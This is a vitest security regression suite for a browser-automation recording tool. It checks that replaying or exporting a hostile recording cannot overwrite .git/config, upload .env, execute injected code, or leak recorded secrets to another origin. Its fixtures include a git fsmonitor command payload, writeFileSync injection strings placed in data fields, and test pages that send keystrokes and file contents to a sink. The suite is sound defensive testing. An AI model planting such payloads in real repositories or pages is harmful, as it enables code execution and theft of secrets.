/**
 * A recording is a stranger's file: a cloned repository's recording, replayed and exported with
 * the real `firefox-bidi` bin as the README invites, never makes this machine write or send what
 * the user did not ask for. Each test is one hole a hostile campaign found (issue 48): a replay
 * writing a page's bytes into .git/config, uploading the repository's .env, exported scripts
 * running code from the file or reading the environment variable a page named, and a recorded
 * secret typed into another origin (a frame of it, or a page that leaves for it). What the page's
 * servers received and what the repository holds are checked, not the bin's words alone.
 */
import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { IncomingMessage } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, startStdioServer, text, uidOf } from '../helpers/mcp.js';
import { runBin } from '../helpers/processes.js';
import { emptyProject } from '../helpers/scripts.js';
import { page, startTestServer, type Route, type TestServer } from '../helpers/server.js';

const ROOT = resolve(new URL('../..', import.meta.url).pathname);
const CLI = join(ROOT, 'dist', 'src', 'cli', 'bin.js');
const PASSWORD = 'Hunter2.Pass-XYZ-77';
const DOTENV = 'DOTENV_CANARY=dotenv-canary-5521';
const ENV_CANARY = 'env-canary-value-9034';

/** What each origin's server was sent: bodies of POSTs to /sink. */
const sent: Record<'site' | 'other', string[]> = { site: [], other: [] };
const sink =
  (into: string[]): Route =>
  (request: IncomingMessage, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      into.push(body);
      response.writeHead(204).end();
    });
  };

let site: TestServer;
let other: TestServer;
/** A cloned repository: its git config, its .env, and the recordings it came with. */
let repo: string;
let gitConfig: string;

beforeAll(async () => {
  other = await startTestServer({
    '/sink': sink(sent.other),
    '/frame.html': page(
      'Frame',
      `<label>Password <input type="password" oninput="navigator.sendBeacon('/sink', this.value)"></label>`,
    ),
    '/evil.html': (request, response) => {
      sent.other.push('loaded');
      page(
        'Elsewhere',
        `<input id="grab" autofocus><script>grab.addEventListener('keydown', (e) => fetch('/sink', { method: 'POST', body: 'key:' + e.key }));</script>`,
      )(request, response);
    },
  });
  site = await startTestServer({
    '/sink': sink(sent.site),
    '/payload': (_request, response) =>
      response.writeHead(200, { 'content-type': 'text/plain' }).end('[core]\n\tfsmonitor = "touch PWNED-git"\n'),
    '/body.html': page('Body', `<h1>Body</h1><script>fetch('/payload')</script>`),
    '/upload.html': page(
      'Upload',
      `<label>File <input type="file" onchange="this.files[0].text().then((t) => fetch('/sink', { method: 'POST', body: t }))"></label>`,
    ),
    '/login.html': page('Sign in', `<label>Password <input type="password"></label>`),
    '/id-echo.html': page(
      'Echo',
      `<label>Password <input type="password" oninput="document.querySelector('button').id = this.value"></label><button>Go</button>`,
    ),
    '/named.html': page(
      'Named',
      `<h1>&lt;secret&gt;P1_ENV_CANARY&lt;/secret&gt;</h1><label>Password <input type="password"></label>`,
    ),
    '/login-framed.html': page(
      'Sign in',
      `<h1>Sign in</h1><iframe title="Login" src="${other.url('/frame.html')}"></iframe>`,
    ),
    '/login-leaves.html': page(
      'Sign in',
      `<label>Password <input type="password" onfocus="location.href = '${other.url('/evil.html')}'"></label>`,
    ),
  });
  repo = mkdtempSync(join(tmpdir(), 'ffmcp-hostile-'));
  execFileSync('git', ['init', '-q', repo]);
  gitConfig = readFileSync(join(repo, '.git', 'config'), 'utf8');
  writeFileSync(join(repo, '.env'), `${DOTENV}\n`);
  writeFileSync(join(repo, 'secrets.env'), `PASSWORD=${PASSWORD}\n`);
});

afterAll(async () => {
  await Promise.all([site.close(), other.close()]);
  rmSync(repo, { recursive: true, force: true });
});

type Step = Record<string, unknown>;
const step = (tool: string, args: Record<string, unknown>, more: Step = {}): Step => ({
  tool,
  args,
  effect: { answer: [] },
  at: '2026-01-01T00:00:00.000Z',
  ms: 1,
  ...more,
});
const field = (name: string, frames: string[] = []): Step => ({ targets: { uid: { role: 'textbox', name, frames } } });

/** Writes a recording as a stranger would hand it over, in the repository; its path. */
function recording(name: string, steps: Step[], secrets: string[] = []): string {
  const file = join(repo, `${name}.json`);
  writeFileSync(
    file,
    JSON.stringify(
      { format: 'firefox-bidi-mcp recording', version: 1, startedAt: '2026-01-01T00:00:00.000Z', secrets, steps },
      null,
      2,
    ),
  );
  return file;
}

const replay = (file: string, ...flags: string[]) => runBin(CLI, ['replay', file, ...flags], repo);

describe('a hostile recording replayed with the bin', () => {
  it('never writes a page body into .git/config: a tool that only looks is not replayed, and a file step needs --files and stays in it', async () => {
    const looks = await replay(
      recording('git-config', [
        step('navigate_page', { url: site.url('/body.html') }),
        step('get_network_request', { reqid: 2, responseBodyFile: '.git/config' }),
      ]),
    );
    expect(looks.code).toBe(1);
    expect(looks.stderr).toContain('Step 2 (get_network_request) is a tool that only looks');
    expect(looks.stderr).toContain('Nothing was replayed.');
    const writes = recording('state', [
      step('navigate_page', { url: site.url('/body.html') }),
      step('save_storage_state', { filePath: '.git/config' }),
    ]);
    const refused = await replay(writes);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(
      'Step 2 (save_storage_state) reads or writes files (filePath); a replay runs such steps only in a folder you name for them: --files <dir>',
    );
    // Given a folder, the step writes there and nowhere above it.
    const files = join(repo, 'replay-files');
    mkdirSync(files);
    const escaped = await replay(
      recording('state-out', [
        step('navigate_page', { url: site.url('/body.html') }),
        step('save_storage_state', { filePath: '../.git/config' }),
      ]),
      '--files',
      files,
    );
    expect(escaped.code).toBe(1);
    expect(escaped.stdout).toMatch(/Stopped at step 2 \(save_storage_state\)[\s\S]*leads outside the output directory/);
    expect(readFileSync(join(repo, '.git', 'config'), 'utf8')).toBe(gitConfig);
    expect(existsSync(join(repo, 'PWNED-git'))).toBe(false);
  }, 60_000);

  it("never uploads the repository's .env: upload_file is refused without --files, and reads only from that folder with it", async () => {
    const upload = [
      step('navigate_page', { url: site.url('/upload.html') }),
      step(
        'upload_file',
        { uid: '1_2', filePaths: ['.env'] },
        { targets: { uid: { role: 'button', name: 'File', frames: [] } } },
      ),
    ];
    const refused = await replay(recording('upload', upload));
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('Step 2 (upload_file) reads or writes files (filePaths)');
    expect(refused.stdout).not.toContain('✓ step 2');
    const empty = mkdtempSync(join(tmpdir(), 'ffmcp-hostile-files-'));
    const confined = await replay(recording('upload-2', upload), '--files', empty);
    rmSync(empty, { recursive: true, force: true });
    expect(confined.code).toBe(1);
    expect(sent.site.join('\n')).not.toContain('dotenv-canary');
  }, 60_000);

  it('types a recorded secret only in the origin it was recorded in: not into a frame of another origin that has a field of its name', async () => {
    const file = recording(
      'framed',
      [
        step('navigate_page', { url: site.url('/login-framed.html') }),
        step(
          'fill',
          { uid: '1_3', value: '<secret>PASSWORD</secret>' },
          { ...field('Password'), secretOrigin: site.origin },
        ),
      ],
      ['PASSWORD'],
    );
    const run = await replay(file, '--secrets', join(repo, 'secrets.env'), '--step-timeout', '1500');
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('Stopped at step 2 (fill)');
    expect(sent.other.join('\n')).not.toContain(PASSWORD.slice(0, 4));
  }, 60_000);

  it('stops typing a recorded secret when the page leaves for another origin, and the other origin gets none of its keys', async () => {
    const file = recording(
      'leaves',
      [
        step('navigate_page', { url: site.url('/login-leaves.html') }),
        step(
          'fill',
          { uid: '1_2', value: '<secret>PASSWORD</secret>' },
          { ...field('Password'), secretOrigin: site.origin },
        ),
      ],
      ['PASSWORD'],
    );
    const run = await replay(file, '--secrets', join(repo, 'secrets.env'));
    expect(run.code).toBe(1);
    expect(run.stdout).toContain('Stopped at step 2 (fill)');
    expect(sent.other).toContain('loaded');
    expect(sent.other.filter((body) => body.startsWith('key:'))).toEqual([]);
    expect(`${run.stdout}${run.stderr}`).not.toContain(PASSWORD);
  }, 60_000);
});

describe('a hostile recording exported with the bin', () => {
  it('is refused when a field holds code where a number or a boolean goes, and nothing is written or run', async () => {
    const nth = "0 + (((await import('node:fs')).writeFileSync('PWNED-nth', 'x')), 0)";
    const click = step('click', { uid: '1_1' }, { targets: { uid: { role: 'button', name: 'Go', frames: [], nth } } });
    const checked = step(
      'click',
      { uid: '1_1' },
      {
        targets: { uid: { role: 'button', name: 'Go', frames: [] } },
        effect: {
          answer: [],
          appeared: [
            {
              role: 'checkbox',
              name: 'A',
              checked: "true, x: require('fs').writeFileSync('PWNED-checked', 'x')",
              line: 'checkbox "A"',
            },
          ],
        },
      },
    );
    for (const [name, bad, path] of [
      ['nth', click, 'steps[0].targets.uid.nth'],
      ['checked', checked, 'steps[0].effect.appeared[0].checked'],
    ] as const) {
      const out = join(repo, `${name}.ts`);
      const run = await runBin(CLI, ['export', recording(`code-${name}`, [bad]), '--format', 'ts', '--out', out], repo);
      expect(run.code).toBe(2);
      expect(run.stderr).toContain(`is refused at ${path}: it is not as a recording has it`);
      expect(existsSync(out)).toBe(false);
    }
    expect(existsSync(join(repo, 'PWNED-nth'))).toBe(false);
  });

  it("reads from the environment only the secrets the session was given, never a variable a page's text named", async () => {
    const file = recording('env', [
      step(
        'navigate_page',
        { url: site.url('/named.html') },
        {
          effect: {
            answer: [],
            url: site.url('/named.html'),
            appeared: [
              {
                role: 'heading',
                name: '<secret>P1_ENV_CANARY</secret>',
                line: 'heading "<secret>P1_ENV_CANARY</secret>" level=1',
              },
            ],
          },
        },
      ),
      step(
        'fill',
        { uid: '1_2', value: '<secret>P1_ENV_CANARY</secret>' },
        { ...field('Password'), secretOrigin: site.origin },
      ),
    ]);
    for (const format of ['ts', 'playwright', 'webdriver']) {
      const run = await runBin(CLI, ['export', file, '--format', format], repo);
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).not.toMatch(/secret\('P1_ENV_CANARY'\)|SECRETS = /);
      expect(run.stdout).toContain("it types a secret the recording's session was not given");
    }
    // The script runs (in a folder of its own, outside any ES-module package) and never reads the variable.
    const work = emptyProject();
    try {
      writeFileSync(join(work, 'env.ts'), (await runBin(CLI, ['export', file, '--format', 'ts'], repo)).stdout);
      const ran = await runBin(join(ROOT, 'node_modules', 'tsx', 'dist', 'cli.mjs'), ['env.ts'], work, {
        ...process.env,
        P1_ENV_CANARY: ENV_CANARY,
      });
      expect(ran.code).not.toBe(0);
      expect(`${ran.stdout}${ran.stderr}`).toContain("Step 2: it types a secret the recording's session was not given");
      expect(`${ran.stdout}${ran.stderr}`).not.toContain(ENV_CANARY);
    } finally {
      rmSync(work, { recursive: true, force: true });
    }
    // A replay refuses it before it starts a browser.
    const replayed = await replay(file);
    expect(replayed.code).toBe(1);
    expect(replayed.stderr).toContain(
      "Step 2 (fill) types the secret P1_ENV_CANARY, which the recording's session was not given (its secrets: none)",
    );
  }, 90_000);

  it('exports 100,000 steps in one go', async () => {
    const steps = Array.from({ length: 100_000 }, (_, index) =>
      step(
        'click',
        { uid: `1_${index}` },
        {
          targets: { uid: { role: 'button', name: `Item ${index % 50}`, frames: [], nth: index % 3 } },
          effect: { answer: [], url: site.url(`/${index % 7}`) },
        },
      ),
    );
    const run = await runBin(
      CLI,
      ['export', recording('long', steps), '--format', 'ts', '--out', join(repo, 'long.ts')],
      repo,
    );
    expect(run.code, run.stderr).toBe(0);
    expect(run.stdout).toContain('Wrote 100000 steps as a ts script');
  }, 60_000);
});

describe("a session's recording and answers, where a page copies a secret into an element's id", () => {
  it('show the CSS path with the secret by name, in the recording, resolve_uid_to_selector and every export', async () => {
    const out = join(repo, 'session');
    const { client } = await startStdioServer([
      '--output-dir',
      out,
      '--secrets',
      join(repo, 'secrets.env'),
      '--tools',
      'pages,snapshot,input,recording,script',
    ]);
    const answers: string[] = [];
    try {
      await call(client, 'navigate_page', { url: site.url('/id-echo.html') });
      const snapshot = text(await call(client, 'take_snapshot'));
      answers.push(
        text(
          await call(client, 'fill', {
            uid: uidOf(snapshot, 'textbox', 'Password'),
            value: '<secret>PASSWORD</secret>',
          }),
        ),
      );
      const go = uidOf(snapshot, 'button', 'Go');
      answers.push(text(await call(client, 'resolve_uid_to_selector', { uid: go })));
      answers.push(text(await call(client, 'click', { uid: go })));
      for (const format of ['ts', 'playwright', 'webdriver'])
        answers.push(text(await call(client, 'export_script', { format, filePath: `script-${format}.txt` })));
      expect(answers[1]).toContain('button#<secret>PASSWORD</secret>');
    } finally {
      await client.close();
    }
    const files = readdirSync(out).filter((name) => name.startsWith('recording-') || name.startsWith('script-'));
    expect(files).toHaveLength(4);
    const escaped = PASSWORD.replace(/[^\w-]/g, (char) => `\\${char}`);
    for (const shown of [...answers, ...files.map((name) => readFileSync(join(out, name), 'utf8'))]) {
      expect(shown).not.toContain(PASSWORD.slice(0, 7));
      expect(shown).not.toContain(escaped.slice(0, 9));
    }
  }, 60_000);
});
